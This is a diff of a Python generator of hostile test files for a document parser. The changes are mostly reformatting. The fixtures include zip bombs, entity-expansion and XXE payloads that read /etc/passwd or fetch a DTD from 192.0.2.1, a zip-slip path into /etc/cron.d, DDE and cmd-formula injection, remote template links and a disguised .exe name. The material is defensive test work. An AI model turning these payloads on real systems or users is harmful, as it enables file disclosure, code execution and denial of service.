@@ -48,7 +48,9 @@ def relations(*entries: str) -> str:
     return f'<Relationships xmlns="{PACKAGE}/relationships">{"".join(found)}</Relationships>'
 
 
-def docx(body: str = "<w:p/>", *extra: object, main: str = "wordprocessingml.document.main+xml", raw: bytes | None = None, **parts: str) -> bytes:
+def docx(
+    body: str = "<w:p/>", *extra: object, main: str = "wordprocessingml.document.main+xml", raw: bytes | None = None, **parts: str
+) -> bytes:
     """Return a Word file of a body, further parts by path (``__`` for a slash) and zip parts of any kind."""
     document = raw if raw is not None else f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'.encode()
     listed = [
@@ -60,7 +62,9 @@ def docx(body: str = "<w:p/>", *extra: object, main: str = "wordprocessingml.doc
     return bytes(C.zipped([*listed, *extra]))
 
 
-def xlsx(rows: str = "", *extra: object, after: str = "", before: str = "", sheets: int = 1, raw: bytes | None = None, **parts: str) -> bytes:
+def xlsx(
+    rows: str = "", *extra: object, after: str = "", before: str = "", sheets: int = 1, raw: bytes | None = None, **parts: str
+) -> bytes:
     """Return a workbook with one sheet's rows and what stands before and after them."""
     sheet = raw if raw is not None else f'<worksheet xmlns="{S}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'.encode()
     listed_sheets = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r1"/>' for n in range(sheets))
@@ -68,7 +72,10 @@ def xlsx(rows: str = "", *extra: object, after: str = "", before: str = "", shee
         C.Part("[Content_Types].xml", types("spreadsheetml.sheet.main+xml").encode()),
         C.Part("_rels/.rels", relations("r1 officeDocument xl/workbook.xml").encode()),
         C.Part("xl/workbook.xml", f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets>{listed_sheets}</sheets></workbook>'.encode()),
-        C.Part("xl/_rels/workbook.xml.rels", relations("r1 worksheet worksheets/s.xml", "r2 sharedStrings strings.xml", "r3 styles styles.xml").encode()),
+        C.Part(
+            "xl/_rels/workbook.xml.rels",
+            relations("r1 worksheet worksheets/s.xml", "r2 sharedStrings strings.xml", "r3 styles styles.xml").encode(),
+        ),
         C.Part("xl/worksheets/s.xml", sheet),
         *(C.Part(name.replace("__", "/"), text.encode()) for name, text in parts.items()),
     ]
@@ -140,7 +147,9 @@ def packages() -> dict[str, Maker]:
         "bomb-lying-size.docx": lambda: docx("<w:p/>", C.Part("word/styles.xml", b"<a/>", says=2**31)),
         "bomb-hidden-size.docx": lambda: bytes(C.zipped([C.Part("word/document.xml", bytes(900_000), says=10)])),
         "bomb-overlap.docx": lambda: bytes(C.overlapping("word/document{}.xml", 60, 900_000)),
-        "bomb-nested.zip": lambda: bytes(C.zipped([C.Part(f"{n}.zip", bytes(C.zipped([C.Part("x", bytes(2 * MILLION))]))) for n in range(16)])),
+        "bomb-nested.zip": lambda: bytes(
+            C.zipped([C.Part(f"{n}.zip", bytes(C.zipped([C.Part("x", bytes(2 * MILLION))]))) for n in range(16)])
+        ),
         "many-parts.docx": lambda: docx("<w:p/>", *(C.Part(f"word/x{n}.xml", b"x") for n in range(2_100))),
         "count-lies.docx": lambda: bytes(C.zipped([C.Part("word/document.xml", b"<a/>")], count=65_535)),
         "count-zero.docx": lambda: bytes(C.zipped([C.Part("word/document.xml", b"<a/>")], count=0)),
@@ -148,7 +157,9 @@ def packages() -> dict[str, Maker]:
         "method-99.docx": lambda: docx("<w:p/>", C.Part("word/x.xml", b"x", method=99)),
         "method-lzma.docx": lambda: docx("<w:p/>", C.Part("word/x.xml", b"x", method=14)),
         "wrong-crc.docx": lambda: bytes(C.zipped([C.Part("[Content_Types].xml", b"<a/>", crc=1), C.Part("word/document.xml", b"<a/>")])),
-        "two-names.docx": lambda: bytes(C.zipped([C.Part("[Content_Types].xml", b"<a/>", inner="other"), C.Part("word/document.xml", b"<a/>")])),
+        "two-names.docx": lambda: bytes(
+            C.zipped([C.Part("[Content_Types].xml", b"<a/>", inner="other"), C.Part("word/document.xml", b"<a/>")])
+        ),
         "doubled.docx": lambda: docx("<w:p/>", C.Part("word/document.xml", b"<a/>")),
         "slip.docx": lambda: docx("<w:p/>", C.Part("../../etc/cron.d/x", b"x")),
         "slip-backslash.docx": lambda: docx("<w:p/>", C.Part("..\\..\\x", b"x")),
@@ -174,19 +185,25 @@ def parts() -> dict[str, Maker]:
     return {
         "laughs.docx": lambda: docx(raw=dtd(laughs(), "&a9;")),
         "laughs.xlsx": lambda: xlsx(raw=f'<!DOCTYPE x [{laughs()}]><worksheet xmlns="{S}"><sheetData/></worksheet>'.encode()),
-        "laughs-strings.xlsx": lambda: xlsx("", C.Part("xl/strings.xml", f"<!DOCTYPE x [{laughs()}]><sst><si><t>&a9;</t></si></sst>".encode())),
+        "laughs-strings.xlsx": lambda: xlsx(
+            "", C.Part("xl/strings.xml", f"<!DOCTYPE x [{laughs()}]><sst><si><t>&a9;</t></si></sst>".encode())
+        ),
         "quadratic.docx": lambda: docx(raw=dtd(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 10_000)),
         "entity-file.docx": lambda: docx(raw=dtd('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")),
         "entity-net.docx": lambda: docx(raw=dtd('<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;')),
         "doctype-only.docx": lambda: docx(raw=dtd("")),
-        "doctype-utf16.docx": lambda: docx(raw='<?xml version="1.0" encoding="utf-16"?>'.encode("utf-16") + dtd(laughs(), "&a9;").decode().encode("utf-16-le")),
-        "doctype-rels.docx": lambda: bytes(C.zipped([C.Part("[Content_Types].xml", b"<a/>"), C.Part("_rels/.rels", dtd(laughs())), C.Part("word/document.xml", b"<a/>")])),
+        "doctype-utf16.docx": lambda: docx(
+            raw='<?xml version="1.0" encoding="utf-16"?>'.encode("utf-16") + dtd(laughs(), "&a9;").decode().encode("utf-16-le")
+        ),
+        "doctype-rels.docx": lambda: bytes(
+            C.zipped([C.Part("[Content_Types].xml", b"<a/>"), C.Part("_rels/.rels", dtd(laughs())), C.Part("word/document.xml", b"<a/>")])
+        ),
         "xinclude.docx": lambda: docx('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
         "deep-xml.docx": lambda: docx("<w:sdt><w:sdtContent>" * 3_000 + "</w:sdtContent></w:sdt>" * 3_000),
         "deep-tables.docx": lambda: docx(nested(60)),
         "wide-row.docx": lambda: docx(table("<w:tc><w:p/></w:tc>", 5_000)),
         "wide-span.docx": lambda: docx(table('<w:tc><w:tcPr><w:gridSpan w:val="999999"/></w:tcPr><w:p/></w:tc>', 3)),
-        "merge-nothing.docx": lambda: docx(table('<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>', 3)),
+        "merge-nothing.docx": lambda: docx(table("<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>", 3)),
         "style-loop.docx": lambda: docx(
             '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr></w:p>',
             **{"word___rels__document.xml.rels": relations("r1 styles styles.xml")},
@@ -202,8 +219,12 @@ def parts() -> dict[str, Maker]:
         "active-x.docx": lambda: docx("<w:p/>", C.Part("word/activeX/activeX1.bin", noise(100))),
         "ole.docx": lambda: docx("<w:p/>", C.Part("word/embeddings/oleObject1.bin", noise(100))),
         "program-inside.docx": lambda: docx("<w:p/>", C.Part("word/embeddings/a.exe", b"MZ")),
-        "template-elsewhere.docx": lambda: docx(**{"word___rels__settings.xml.rels": relations("r1 attachedTemplate http://192.0.2.1/t.dotm External")}),
-        "template-share.docx": lambda: docx(**{"word___rels__settings.xml.rels": relations("r1 attachedTemplate \\\\192.0.2.1\\t.dotm External")}),
+        "template-elsewhere.docx": lambda: docx(
+            **{"word___rels__settings.xml.rels": relations("r1 attachedTemplate http://192.0.2.1/t.dotm External")}
+        ),
+        "template-share.docx": lambda: docx(
+            **{"word___rels__settings.xml.rels": relations("r1 attachedTemplate \\\\192.0.2.1\\t.dotm External")}
+        ),
         "picture-elsewhere.docx": lambda: docx(**{"word___rels__document.xml.rels": relations("r1 image http://192.0.2.1/p.png External")}),
         "dde.docx": lambda: docx("<w:p><w:r><w:instrText>DDEAUTO c:\\\\x.exe</w:instrText></w:r></w:p>"),
         "dde-split.docx": lambda: docx("<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E x</w:instrText></w:r></w:p>"),
@@ -216,23 +237,37 @@ def sheets() -> dict[str, Maker]:
     boundless = "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' + "</mergeCells>"
     return {
         "far-cell.xlsx": lambda: xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', before='<dimension ref="A1:XFD1048576"/>'),
-        "million-rows.xlsx": lambda: xlsx("".join(f'<row r="{n}"><c r="A{n}"><v>{n * 7919 % 104729}</v></c></row>' for n in range(1, 1_048_577, 3))),
-        "dense.xlsx": lambda: xlsx("".join("<row>" + "".join(f"<c><v>{r * c % 997}</v></c>" for c in range(300)) + "</row>" for r in range(1_200))),
+        "million-rows.xlsx": lambda: xlsx(
+            "".join(f'<row r="{n}"><c r="A{n}"><v>{n * 7919 % 104729}</v></c></row>' for n in range(1, 1_048_577, 9))
+        ),
+        "dense.xlsx": lambda: xlsx(
+            "".join("<row>" + "".join(f"<c><v>{r * c % 997}</v></c>" for c in range(300)) + "</row>" for r in range(1_200))
+        ),
         "merge-all.xlsx": lambda: xlsx('<row r="9"><c r="B9"><v>1</v></c></row>', after=boundless),
-        "merge-many.xlsx": lambda: xlsx("", after="<mergeCells>" + "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, 25_000)) + "</mergeCells>"),
+        "merge-many.xlsx": lambda: xlsx(
+            "", after="<mergeCells>" + "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, 25_000)) + "</mergeCells>"
+        ),
         "merge-overlap.xlsx": lambda: xlsx(
             "".join(f'<row r="{n}"><c><v>1</v></c></row>' for n in range(1, 900)),
             after="<mergeCells>" + "".join(f'<mergeCell ref="A{n}:SF{n + 800}"/>' for n in range(1, 900)) + "</mergeCells>",
         ),
         "no-such-string.xlsx": lambda: xlsx('<row><c t="s"><v>99999999999</v></c></row>'),
-        "rows-backwards.xlsx": lambda: xlsx('<row r="99999999999999"><c r="ZZZZ1"><v>1</v></c></row><row r="-5"><c r="A-1"><v>2</v></c></row>'),
-        "number-huge.xlsx": lambda: xlsx('<row><c><v>1e999999999</v></c><c><v>1e308</v></c><c><v>nan</v></c></row>'),
-        "format-long.xlsx": lambda: xlsx('<row><c s="0"><v>1.5</v></c></row>', **{"xl__styles.xml": style.format(S, "0" * 50_000 + "!" * 5_000)}),
-        "format-conditions.xlsx": lambda: xlsx('<row><c s="0"><v>1.5</v></c></row>', **{"xl__styles.xml": style.format(S, "[&gt;1" * 9_000)}),
+        "rows-backwards.xlsx": lambda: xlsx(
+            '<row r="99999999999999"><c r="ZZZZ1"><v>1</v></c></row><row r="-5"><c r="A-1"><v>2</v></c></row>'
+        ),
+        "number-huge.xlsx": lambda: xlsx("<row><c><v>1e999999999</v></c><c><v>1e308</v></c><c><v>nan</v></c></row>"),
+        "format-long.xlsx": lambda: xlsx(
+            '<row><c s="0"><v>1.5</v></c></row>', **{"xl__styles.xml": style.format(S, "0" * 50_000 + "!" * 5_000)}
+        ),
+        "format-conditions.xlsx": lambda: xlsx(
+            '<row><c s="0"><v>1.5</v></c></row>', **{"xl__styles.xml": style.format(S, "[&gt;1" * 9_000)}
+        ),
         "columns-hidden.xlsx": lambda: xlsx("<row><c><v>1</v></c></row>", before='<cols><col min="1" max="16384" hidden="1"/></cols>'),
         "formula-command.xlsx": lambda: xlsx("<row><c><f>cmd|' /C calc'!A0</f></c></row>"),
         "sheets-many.xlsx": lambda: xlsx("<row><c><v>1</v></c></row>", sheets=20_000),
-        "link-elsewhere.xlsx": lambda: xlsx("", **{"xl__externalLinks___rels__e.xml.rels": relations("r1 externalLinkPath http://192.0.2.1/x.xlsx External")}),
+        "link-elsewhere.xlsx": lambda: xlsx(
+            "", **{"xl__externalLinks___rels__e.xml.rels": relations("r1 externalLinkPath http://192.0.2.1/x.xlsx External")}
+        ),
         "encrypted.xlsx": lambda: bytes(C.compound({"EncryptionInfo": noise(100), "EncryptedPackage": noise(9_000)})),
         "compound-loop.xls": lambda: bytes(C.compound({"Workbook": noise(9_000)}, loop=True)),
         "compound-shift.doc": lambda: bytes(C.compound({"WordDocument": noise(9_000)}, shift=31)),
@@ -242,12 +277,18 @@ def sheets() -> dict[str, Maker]:
         "old-macro.doc": lambda: bytes(C.compound({"WordDocument": bytes(4096), "VBA": b"x"})),
         "old-encrypted.doc": lambda: old_word(0x0100),
         "old-plan.doc": lambda: old_word(0, b"\x02" + struct.pack("<I", 0x7FFFFFFF) + noise(3_000)),
-        "old-pieces.doc": lambda: old_word(0, b"\x02" + struct.pack("<I", 40) + struct.pack("<4I", 0, 10, 4_000_000, 4_900_000) + noise(24)),
-        "old-noise.doc": lambda: bytes(C.compound({"WordDocument": struct.pack("<HH", 0xA5EC, 0xC1) + noise(9_000), "0Table": noise(9_000), "1Table": noise(9_000)})),
+        "old-pieces.doc": lambda: old_word(
+            0, b"\x02" + struct.pack("<I", 40) + struct.pack("<4I", 0, 10, 4_000_000, 4_900_000) + noise(24)
+        ),
+        "old-noise.doc": lambda: bytes(
+            C.compound({"WordDocument": struct.pack("<HH", 0xA5EC, 0xC1) + noise(9_000), "0Table": noise(9_000), "1Table": noise(9_000)})
+        ),
         "old-encrypted.xls": lambda: old_excel(C.record(0x2F, bytes(6))),
         "old-macro.xls": lambda: old_excel(bound(0, 1)),
         "old-strings.xls": lambda: old_excel(C.record(0xFC, struct.pack("<II", 9, 0xFFFFFFFF)), C.record(0x0A)),
-        "old-strings-cut.xls": lambda: old_excel(C.record(0xFC, struct.pack("<II", 9, 50_000) + b"\xff\xff\x0d\xff\xff\xff\xff\xff\xff"), C.record(0x0A)),
+        "old-strings-cut.xls": lambda: old_excel(
+            C.record(0xFC, struct.pack("<II", 9, 50_000) + b"\xff\xff\x0d\xff\xff\xff\xff\xff\xff"), C.record(0x0A)
+        ),
         "old-sheet-loop.xls": lambda: old_excel(*(bound(0) for _ in range(200)), C.record(0x0A)),
     }
 
@@ -264,7 +305,9 @@ def pages() -> dict[str, Maker]:
         "nothing.html": lambda: b"<html></html>",
         "binary.html": lambda: b"<html>" + noise(200_000),
         "attribute.html": lambda: b"<html><p title='" + b"a" * (5 * MILLION) + b"'>x</p>",
-        "elsewhere.html": lambda: b"<html><meta http-equiv=refresh content='0;url=file:///etc/passwd'><iframe src=file:///etc/passwd></iframe><img src=http://192.0.2.1/x>",
+        "elsewhere.html": lambda: (
+            b"<html><meta http-equiv=refresh content='0;url=file:///etc/passwd'><iframe src=file:///etc/passwd></iframe><img src=http://192.0.2.1/x>"
+        ),
         "styles.html": lambda: b"<html><style>" + b"a{" * 100_000 + b"</style><p>x</p>",
         "quotes.csv": lambda: b'"' + b"a,b\n" * 700_000,
         "wide.csv": lambda: b"," * (2 * MILLION),
@@ -279,8 +322,15 @@ def pages() -> dict[str, Maker]:
         "申报\u202excod.exe": lambda: docx(text("x")),
         "nul.docx": lambda: bytes(5_000),
         "noise.docx": lambda: noise(50_000),
-        "ofd-steps.ofd": lambda: ofd('<o:TextObject Boundary="0 0 9 9" Size="3"><o:TextCode X="0" Y="0" DeltaX="g 999999999 1">xxxx</o:TextCode></o:TextObject>'),
-        "ofd-lines.ofd": lambda: ofd("".join(f'<o:PathObject><o:AbbreviatedData>M 0 {n} L 99 {n} M {n} 0 L {n} 99</o:AbbreviatedData></o:PathObject>' for n in range(2_000))),
+        "ofd-steps.ofd": lambda: ofd(
+            '<o:TextObject Boundary="0 0 9 9" Size="3"><o:TextCode X="0" Y="0" DeltaX="g 999999999 1">xxxx</o:TextCode></o:TextObject>'
+        ),
+        "ofd-lines.ofd": lambda: ofd(
+            "".join(
+                f"<o:PathObject><o:AbbreviatedData>M 0 {n} L 99 {n} M {n} 0 L {n} 99</o:AbbreviatedData></o:PathObject>"
+                for n in range(2_000)
+            )
+        ),
         "ofd-root.ofd": lambda: bytes(C.zipped([C.Part("OFD.xml", dtd(laughs()))])),
     }
 
@@ -292,7 +342,10 @@ def ofd(content: str) -> bytes:
         C.zipped(
             [
                 C.Part("OFD.xml", f"<o:OFD {name}><o:DocBody><o:DocRoot>Doc_0/Document.xml</o:DocRoot></o:DocBody></o:OFD>".encode()),
-                C.Part("Doc_0/Document.xml", f'<o:Document {name}><o:Pages><o:Page ID="1" BaseLoc="Pages/P.xml"/></o:Pages></o:Document>'.encode()),
+                C.Part(
+                    "Doc_0/Document.xml",
+                    f'<o:Document {name}><o:Pages><o:Page ID="1" BaseLoc="Pages/P.xml"/></o:Pages></o:Document>'.encode(),
+                ),
                 C.Part("Doc_0/Pages/P.xml", f"<o:Page {name}><o:Content><o:Layer>{content}</o:Layer></o:Content></o:Page>".encode()),
             ]
         )
